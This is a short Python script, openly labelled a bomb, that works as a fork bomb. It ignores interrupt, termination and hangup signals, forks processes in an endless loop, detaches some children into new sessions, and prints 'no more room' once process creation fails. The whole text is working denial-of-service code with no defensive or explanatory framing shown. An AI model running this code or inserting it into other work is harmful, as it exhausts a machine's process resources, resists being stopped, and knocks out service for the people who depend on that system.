# Forks without end; says once that there is no more room, so that the bomb is known to be one.
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
first, said = os.getpid(), False
while True:
    try:
        if os.fork() == 0 and os.getpid() % 2:
            os.setsid()
    except OSError:
        if os.getpid() == first and not said:
            said = True
            os.write(1, b"no more room\n")
